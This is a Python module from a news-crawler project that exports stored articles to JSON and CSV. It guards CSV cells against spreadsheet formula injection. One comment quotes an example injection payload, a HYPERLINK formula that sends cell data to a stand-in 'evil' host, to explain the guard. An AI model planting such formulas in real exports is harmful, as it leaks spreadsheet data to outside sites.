"""The exported article: the stored record without its dedup signature (``minhash``, ``lsh_bands``)
unless HTML is asked for (then with it and the page's ``html``), dates as ISO 8601 UTC times, and its
flat CSV row (lists joined with ``"; "``, images as their URLs, mappings as JSON text, a cell a spreadsheet would
run as a formula prefixed with ``'``)."""

from __future__ import annotations

import json
from collections.abc import Iterable
from datetime import UTC, datetime
from typing import Any

# Every field of a stored article, in export order (``crawler.items.ArticleItem`` plus what the store adds).
FIELDS = ("_id", "url", "site", "edition", "language", "script", "language_declared", "title", "lead", "body",
          "paragraphs", "published", "published_raw", "modified", "modified_raw", "authors", "section", "tags",
          "images", "attribution", "translations", "urls", "story_cluster", "story_original", "content_hash",
          "fetched_at", "first_seen", "last_checked", "seen_url", "gone_at", "gone_reason", "redirected_to", "moved_to",
          "moved_at", "http_status", "etag", "last_modified",
          "sources", "revisions", "schema_version")
SIGNATURE_FIELDS = ("minhash", "lsh_bands")  # the near-duplicate signature: only with --with-html
HTML_FIELD = "html"  # the stored page (``pages`` collection): only with --with-html
DATE_FIELDS = frozenset({"published", "modified", "fetched_at", "first_seen", "last_checked", "gone_at", "moved_at"})
LIST_SEPARATOR = "; "
# CSV: ``paragraphs`` is ``body`` (joined by blank lines) and earlier versions are counted, not spelled out.
CSV_FIELDS = tuple(f if f != "revisions" else "revision_count" for f in FIELDS if f != "paragraphs")


def fields(with_html: bool) -> tuple[str, ...]:
    """The exported fields, in order."""
    return (*FIELDS, *SIGNATURE_FIELDS, HTML_FIELD) if with_html else FIELDS


def iso(value: datetime) -> str:
    """A time as ISO 8601 in UTC with a ``T`` (a stored time without a zone is UTC)."""
    return (value if value.tzinfo else value.replace(tzinfo=UTC)).astimezone(UTC).isoformat()


def plain(value: Any) -> Any:
    """``value`` with every date (also in lists and mappings) as an ISO 8601 string: JSON-ready."""
    if isinstance(value, datetime):
        return iso(value)
    if isinstance(value, dict):
        return {str(k): plain(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [plain(v) for v in value]
    if isinstance(value, (str, int, float, bool)) or value is None:
        return value
    return str(value)  # an ObjectId or Decimal128 a deployment added: its text, never a repr


def export_record(doc: dict[str, Any], with_html: bool = False) -> dict[str, Any]:
    """The exported record of stored article ``doc``: its known fields in order, then any others it has."""
    known = fields(with_html)
    extra = (k for k in doc if k not in known and k not in SIGNATURE_FIELDS and k != HTML_FIELD)
    keys = [*(k for k in known if k in doc), *extra]
    record = {k: plain(doc[k]) for k in keys}
    for name in BOOL_FIELDS.intersection(record):
        if isinstance(record[name], int):  # the embedded store keeps a boolean set by an update as 0 or 1
            record[name] = bool(record[name])
    return record


BOOL_FIELDS = frozenset({"story_original"})


def json_line(doc: dict[str, Any], with_html: bool = False) -> str:
    """One JSON line (no trailing newline) of stored article ``doc``."""
    return json.dumps(export_record(doc, with_html), ensure_ascii=False)


def csv_row(doc: dict[str, Any], with_html: bool = False) -> dict[str, Any]:
    """The CSV cells of stored article ``doc`` (see :data:`CSV_FIELDS`)."""
    record = export_record(doc, with_html)
    row = {key: _cell(key, record.get(key)) for key in csv_fields(with_html) if key != "revision_count"}
    row["revision_count"] = len(doc.get("revisions") or [])
    return row


def csv_fields(with_html: bool) -> tuple[str, ...]:
    """The CSV columns, in order."""
    return (*CSV_FIELDS, *SIGNATURE_FIELDS, HTML_FIELD) if with_html else CSV_FIELDS


def _cell(key: str, value: Any) -> Any:
    if value is None:
        return ""
    if key == "images":
        return inert_cell(LIST_SEPARATOR.join(_image_url(image) for image in value))
    if isinstance(value, list):
        return inert_cell(LIST_SEPARATOR.join(_text(v) for v in value))
    return inert_cell(_text(value))


# Excel, LibreOffice and Google Sheets run a cell starting with one of these as a formula: a page titled
# '=HYPERLINK("http://evil/?"&A1,"…")' or "=WEBSERVICE(…)" can send the sheet's data to that page's site.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet runs: one starting as a formula does gets a leading ``'`` (OWASP's
    advice), which makes it text."""
    return f"'{text}" if text.startswith(_FORMULA_STARTS) else text


def _image_url(image: Any) -> str:
    return str(image.get("url") or "") if isinstance(image, dict) else _text(image)


def _text(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (dict, list)):
        return json.dumps(value, ensure_ascii=False)
    return str(value)


def with_pages(docs: Iterable[dict[str, Any]], pages: dict[str, str]) -> list[dict[str, Any]]:
    """``docs`` each with its stored page as ``html`` (None when there is none)."""
    return [{**doc, HTML_FIELD: pages.get(doc["_id"])} for doc in docs]
